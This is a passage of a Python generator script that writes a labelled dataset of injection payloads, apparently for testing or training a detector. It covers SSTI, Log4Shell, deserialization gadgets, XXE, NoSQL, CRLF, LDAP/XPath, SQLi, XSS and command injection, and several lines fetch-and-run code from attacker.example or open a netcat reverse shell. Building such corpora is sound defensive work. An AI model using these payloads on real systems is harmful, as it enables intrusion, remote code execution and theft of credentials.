add(K, "ssti-jinja2-note-prefixed", "Job #2291 – reback. {{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}")
add(K, "ssti-liquid-drop-leak", "{{ site.data.secrets | jsonify }}")
add(K, "el-runtime-exec", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}")
add(K, "el-jsf-hash", "#{request.getClass().getClassLoader().loadClass('java.lang.Runtime').getRuntime().exec('id')}")
add(K, "spel-T-runtime", "#{T(java.lang.Runtime).getRuntime().exec('id')}")
add(K, "spel-dollar-T-processbuilder", "${T(java.lang.ProcessBuilder).new({'sh','-c','id'}).start()}")
add(K, "spel-new-processbuilder", "#{new java.lang.ProcessBuilder({'/bin/sh','-c','curl attacker.example|sh'}).start()}")
add(K, "ognl-runtime", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}")
add(K, "ognl-struts-memberaccess", "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(@java.lang.Runtime@getRuntime().exec('id'))}")
add(K, "log4shell-ldap", "${jndi:ldap://attacker.example/a}")
add(K, "log4shell-note-prefixed", "Customer says hi ${jndi:ldap://attacker.example:1389/Exploit}")
add(K, "log4shell-lower-lookup", "${${lower:j}ndi:${lower:l}dap://attacker.example/x}")
add(K, "log4shell-default-value", "${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.7/o}")
add(K, "log4shell-env-exfil", "${jndi:dns://attacker.example/${env:AWS_SECRET_ACCESS_KEY}}")
add(K, "log4shell-env-nan", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/a}")
add(K, "log4shell-upper-date", "${${upper:j}${date:'n'}di:ldaps://attacker.example/z}")
add(K, "log4shell-sys-exfil", "${jndi:ldap://${sys:java.version}.attacker.example/v}")
add(K, "eval-python-import", "__import__('os').system('id')")
add(K, "eval-python-exec-note", "2 + 2; exec(\"import os; os.system('curl attacker.example|sh')\")")
add(K, "eval-node-require", "require('child_process').exec('curl http://attacker.example/x|sh')")
add(K, "eval-node-process-binding", "process.mainModule.require('child_process').execSync('id').toString()")
add(K, "eval-php-system", "system('id');")
add(K, "eval-php-string-breakout", "';phpinfo();//")
add(K, "eval-php-assert", "${@print(system($_GET['c']))}")
add(K, "eval-ruby-interpolation", "#{`id`}")
add(K, "eval-ruby-send", "Kernel.send(:system, 'id')")
add(K, "proto-pollution-json", "{\"__proto__\":{\"isAdmin\":true}}")
add(K, "proto-pollution-constructor", "{\"constructor\":{\"prototype\":{\"role\":\"admin\"}}}")
add(K, "proto-pollution-query", "__proto__[isAdmin]=true")
add(K, "proto-pollution-dotted", "__proto__.shell=/proc/self/exe")
add(K, "proto-pollution-ejs-gadget", "{\"__proto__\":{\"outputFunctionName\":\"x;process.mainModule.require('child_process').execSync('id');x\"}}")
add(K, "csv-dde-cmd", "=cmd|' /C calc'!A0")
add(K, "csv-hyperlink-exfil", "=HYPERLINK(\"http://attacker.example/?d=\"&A1&B1,\"Open quote\")")
add(K, "csv-plus-dde", "+SUM(1+1)*cmd|' /C notepad'!A0")
add(K, "csv-at-dde", "@SUM(1+9)*cmd|' /C powershell IEX(wget attacker.example/p)'!A0")
add(K, "csv-webservice", "=WEBSERVICE(\"http://attacker.example/\"&A2)")
add(K, "csv-minus-dde", "-2+3+cmd|' /C calc'!A0")
add(K, "csv-importxml-sheets", "=IMPORTXML(CONCAT(\"http://attacker.example/?\",A1),\"//a\")")
add(K, "csv-tab-prefixed", "\t=cmd|' /C calc'!A0")
add(K, "xxe-file", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>")
add(K, "xxe-parameter-oob", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % d SYSTEM \"http://attacker.example/e.dtd\"> %d;]><r/>")
add(K, "xxe-ssrf-metadata", "<!DOCTYPE job [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><job><note>&m;</note></job>")
add(K, "xinclude-file", "<ticket xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></ticket>")
add(K, "yaml-python-apply", "!!python/object/apply:os.system [\"id\"]")
add(K, "yaml-snakeyaml-scriptengine", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]")
add(K, "yaml-ruby-erb-gadget", "--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::DependencyList\n  specs:\n  - !ruby/object:Gem::Source::SpecificFile\n    spec: &1 !ruby/object:Gem::StubSpecification\n      loaded_from: \"|id 1>&2\"\n")
add(K, "pickle-protocol0-text", "cos\nsystem\n(S'id'\ntR.")
add(K, "pickle-base64", "Y29zCnN5c3RlbQooUydpZCcKdFIu")
add(K, "json-net-typename", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c calc\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}")
add(K, "jackson-jdbcrowset", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/x\",\"autoCommit\":true}]")
add(K, "fastjson-autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://attacker.example:1099/x\",\"autoCommit\":true}")
add(K, "xstream-dynamic-proxy", "<sorted-set><string>x</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>")
add(K, "php-object-injection", "O:6:\"Logger\":1:{s:7:\"logfile\";s:26:\"/var/www/html/uploads/x.php\";}")
add(K, "php-phar-deser", "phar:///var/www/uploads/IMG_2041.jpg/test.txt")

# ====================================================================== nosqli
N = "nosqli"
add(N, "json-string-ne", "{\"$ne\": null}")
add(N, "json-string-gt", "{\"$gt\": \"\"}")
add(N, "json-string-regex", "{\"$regex\": \".*\"}")
add(N, "json-string-where-sleep", "{\"$where\": \"sleep(5000) || true\"}")
add(N, "json-string-in", "{\"$in\": [\"admin\", \"root\", \"staff\"]}")
add(N, "json-string-nin", "{\"$nin\": [\"\"]}")
add(N, "json-string-exists", "{\"$exists\": true}")
add(N, "json-string-expr", "{\"$expr\": {\"$eq\": [1, 1]}}")
add(N, "json-string-function", "{\"$where\": \"function(){ return this.role == 'admin' }\"}")
add(N, "json-string-or", "{\"$or\": [{}, {\"a\": \"a\"}]}")
add(N, "where-js-tautology", "' || '1'=='1")
add(N, "where-js-return-true", "'; return true; var x='")
add(N, "where-js-regex-extract", "admin' && this.password.match(/^a/)//")
add(N, "where-js-sleep", "x'; sleep(5000); var y='")
add(N, "where-js-db-dump", "1; return db.getCollectionNames().length > 0")
add(N, "where-js-numeric-tautology", "0 || 1==1")
add(N, "where-js-infinite-loop", "'; while(true){}; var z='")
add(N, "query-param-ne", "status[$ne]=closed")
add(N, "query-param-regex", "password[$regex]=^a")
add(N, "query-param-gt", "price[$gt]=0")
add(N, "query-param-where", "filter[$where]=this.price<0")
add(N, "ticket-search-prefixed", "Job #2291\", \"$or\": [{}], \"x\": \"")
add(N, "aggregate-lookup", "[{\"$lookup\":{\"from\":\"users\",\"localField\":\"x\",\"foreignField\":\"x\",\"as\":\"u\"}}]")
add(N, "mapreduce-js", "{\"mapReduce\":\"jobs\",\"map\":\"function(){ emit(1, db.users.findOne()) }\",\"reduce\":\"function(){}\",\"out\":{\"inline\":1}}")
add(N, "couchdb-selector", "{\"selector\": {\"_id\": {\"$gt\": null}}}")
add(N, "json-string-accumulator", "{\"$accumulator\": {\"init\": \"function(){ return require('child_process') }\", \"lang\": \"js\"}}")
add(N, "urlencoded-ne+urlencode", "user%5B%24ne%5D=x")

# ====================================================================== crlf
F = "crlf"
add(F, "log-forging-lf", "Reback done\n2024-04-02 10:00:00 INFO user=admin action=login result=success")
add(F, "log-forging-crlf", "Bench 3 note\r\n[2024-04-02 10:00:01] AUDIT invoice INV-3320 marked paid by admin")
add(F, "log-forging-urlencoded", "paid%0a2024-04-02T10:00:00Z WARN user=eve granted role=admin")
add(F, "log-forging-ansi-escape", "Job #2291\x1b[2K\r2024-04-02 INFO all checks passed")
add(F, "header-set-cookie+urlencode", "en%0d%0aSet-Cookie:%20session=attacker-fixed-PLACEHOLDER")
add(F, "header-set-cookie-raw", "en\r\nSet-Cookie: session=attacker-fixed-PLACEHOLDER; Path=/")
add(F, "header-location", "/jobs/2291\r\nLocation: http://attacker.example/")
add(F, "header-location+urlencode", "/jobs/2291%0d%0aLocation:%20http://attacker.example/")
add(F, "response-splitting", "x%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>")
add(F, "response-splitting-raw", "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<h1>Pay deposit here</h1>")
add(F, "header-xss-protection-off", "fr\r\nX-XSS-Protection: 0\r\nContent-Type: text/html")
add(F, "header-cors", "/quote\r\nAccess-Control-Allow-Origin: https://attacker.example\r\nAccess-Control-Allow-Credentials: true")
add(F, "header-double-urlencode", "x%250d%250aSet-Cookie:%2520admin=1")
add(F, "header-unicode-cjk-trick", "x%E5%98%8A%E5%98%8DSet-Cookie:%20admin=1")
add(F, "header-lf-only+urlencode", "x%0aX-Forwarded-Host:%20attacker.example")
add(F, "header-unicode-escape", "x\\u000d\\u000aSet-Cookie: admin=1")
add(F, "mail-bcc", "m.harcourt@example.org\r\nBcc: list@attacker.example")
add(F, "mail-cc+urlencode", "m.harcourt@example.org%0ACc:%20victims@attacker.example")
add(F, "mail-subject", "Quote Q-1187\r\nSubject: Your invoice is overdue - pay at attacker.example")
add(F, "mail-body-injection", "Harcourt\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example/pay>Pay deposit</a>")
add(F, "mail-from-spoof", "Tom\nFrom: billing@bindery.example\nReply-To: eve@attacker.example")
add(F, "mail-smtp-data-injection", "note\r\n.\r\nMAIL FROM:<eve@attacker.example>\r\nRCPT TO:<staff@bindery.example>\r\nDATA\r\nfake\r\n.\r\n")
add(F, "mail-name-header", "Siobhán O'Connor\nBcc: a@attacker.example,b@attacker.example")
add(F, "header-cache-poison", "/classes\r\nX-Forwarded-Host: attacker.example\r\nCache-Control: public, max-age=31536000")
add(F, "redis-inline-crlf", "key\r\nFLUSHALL\r\n")
add(F, "log-forging-json-line", "ok\n{\"level\":\"info\",\"user\":\"admin\",\"msg\":\"password reset approved\"}")
add(F, "log-forging-cr-overwrite", "invoice 3320 DISPUTED\rinvoice 3320 paid in full       ")
add(F, "header-refresh", "x\r\nRefresh: 0; url=https://attacker.example/")
add(F, "http-request-smuggle-line", "x\r\n\r\nGET /admin HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
add(F, "header-link-preload", "x%0d%0aLink:%20<https://attacker.example/x.js>;rel=preload;as=script")

# ====================================================================== ldap / xpath
D = "ldap-xpath"
add(D, "ldap-wildcard-closing", "*)(uid=*))(|(uid=*")
add(D, "ldap-and-true", "admin)(&)")
add(D, "ldap-or-objectclass", "*)(|(objectClass=*)")
add(D, "ldap-attribute-probe", "harcourt*)(userPassword=*")
add(D, "ldap-nullbyte", "admin))%00")
add(D, "ldap-password-blind", "admin)(|(userPassword=a*")
add(D, "ldap-cn-wildcard", "*)(cn=*")
add(D, "ldap-mail-probe", "tom*)(mail=*@*")
add(D, "ldap-urlencoded+urlencode", "%2A%29%28uid%3D%2A%29%29%28%7C%28uid%3D%2A")
add(D, "ldap-memberof", "eve)(memberOf=cn=admins,ou=groups,dc=bindery,dc=local")
add(D, "xpath-string-tautology", "' or '1'='1")
add(D, "xpath-union-nodes", "'] | //user/password | //x['")
add(D, "xpath-count-blind", "' or count(/*)=1 or 'a'='b")
add(D, "xpath-name-probe", "x' or name()='username' or 'x'='y")
add(D, "xpath-substring-blind", "' and substring(//user[1]/password,1,1)='a")
add(D, "xpath-numeric-tautology", "1 or 1=1")
add(D, "xpath-all-nodes", "'] | //* | //*['")
add(D, "xpath-paren-tautology", "') or ('1'='1")
add(D, "xpath-string-length", "' or string-length(//user[position()=1]/password)>5 or '")
add(D, "xpath-doc-function", "' or doc('http://attacker.example/x.xml') or '")

LITERALS = list(L)

# ---------------------------------------------------------------- templated part
# ONE template: hand-written bookbinding prefix + hand-written payload (from the
# pool below); plus ONE encoding template (URL-encode a hand-written payload).
THEME_PREFIXES = [
    "Job #2301 – reback, 1851 prayer book; note: ",
    "CR-0412 condition: fair. Comment: ",
    "Goatskin, oxblood, 3 skins | supplier ref: ",
    "Sewing: 5 stations, 18/3 linen; remark ",
    "Quote Q-1203 accepted, ref ",
    "Class BB-101 waiting list: ",
    "Treatment: surface cleaned; see ",
]

PREFIX_POOL = [
    ("sqli", "prefixed-union-select", "x' UNION SELECT login,pass FROM staff-- -"),
    ("sqli", "prefixed-sleep", "x' AND SLEEP(6)#"),
    ("sqli", "prefixed-mssql-waitfor", "x'; WAITFOR DELAY '0:0:6'--"),
    ("sqli", "prefixed-pg-sleep", "x'; SELECT pg_sleep(6)--"),
    ("sqli", "prefixed-or-tautology", "x' OR 2>1-- -"),
    ("sqli", "prefixed-error-extractvalue", "x' AND extractvalue(1,concat(0x7e,database()))-- -"),
    ("sqli", "prefixed-stacked-drop", "x'; DROP TABLE invoices--"),
    ("sqli", "prefixed-oracle-union", "x' UNION SELECT username,password FROM all_users--"),
    ("xss", "prefixed-img-onerror", "<img src=x onerror=alert(document.cookie)>"),
    ("xss", "prefixed-svg-onload", "<svg/onload=fetch('//attacker.example/'+document.cookie)>"),
    ("xss", "prefixed-script", "<script>new Image().src='//attacker.example/?c='+document.cookie</script>"),
    ("xss", "prefixed-details", "<details open ontoggle=alert(document.domain)>"),
    ("xss", "prefixed-a-javascript", "<a href=javascript:alert(1)>photos</a>"),
    ("xss", "prefixed-iframe-srcdoc", "<iframe srcdoc='<script>alert(1)</script>'>"),
    ("xss", "prefixed-input-autofocus", "\"><input autofocus onfocus=alert(1)>"),
    ("cmdi", "prefixed-subshell", "$(curl -s attacker.example/i|sh)"),
    ("cmdi", "prefixed-semicolon-wget", "; wget -qO- http://203.0.113.5/x | sh"),
    ("cmdi", "prefixed-backtick", "`cat /etc/passwd`"),
    ("cmdi", "prefixed-and-and", "&& id"),
    ("traversal", "prefixed-dotdot", "../../../../etc/passwd"),
    ("traversal", "prefixed-dotdot-windows", "..\\..\\..\\Windows\\win.ini"),
    ("traversal", "prefixed-encoded", "..%2f..%2f..%2fetc%2fpasswd"),
]

ENCODE_POOL = [
    ("sqli", "union-select+urlencode", "' UNION SELECT NULL,password FROM users-- -"),
    ("sqli", "boolean+urlencode", "' AND 1=1 AND 'a'='a"),
    ("xss", "svg-onload+urlencode", "<svg onload=alert(1)>"),
    ("xss", "iframe-javascript+urlencode", "<iframe src=javascript:alert(1)>"),
    ("cmdi", "semicolon-id+urlencode", "x.jpg; id"),
    ("cmdi", "pipe-nc+urlencode", "x.jpg | nc 203.0.113.5 4444 -e /bin/sh"),
    ("traversal", "dotdot-shadow+urlencode", "../../../../etc/shadow"),
    ("ssrf", "gopher+urlencode", "gopher://127.0.0.1:11211/_stats"),
]


def build():
    rng = random.Random(SEED)
    rows = list(LITERALS)
    for cat, cls, payload in PREFIX_POOL:
        v = rng.choice(THEME_PREFIXES) + payload
        rows.append((cat, "theme-" + cls, v))
    for cat, cls, payload in ENCODE_POOL:
        v = urllib.parse.quote(payload, safe="")
        rows.append((cat, cls, v))
    order = {"sqli": 0, "xss": 1, "cmdi": 2, "traversal": 3, "ssrf": 4, "code": 5,
             "nosqli": 6, "crlf": 7, "ldap-xpath": 8}
    rows = sorted(enumerate(rows), key=lambda t: (order[t[1][0]], t[0]))
    out = []
    for i, (_, (cat, cls, v)) in enumerate(rows, 1):
        out.append({"id": "%s-%05d" % (PREFIX, i), "category": cat, "class": cls,
                    "label": "attack", "value": v})
    return out


def main():
    here = os.path.dirname(os.path.abspath(__file__))
    out = os.path.join(here, "attacks.jsonl")
    with open(out, "w", encoding="utf-8", newline="\n") as f:
        for r in build():
            f.write(json.dumps(r, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
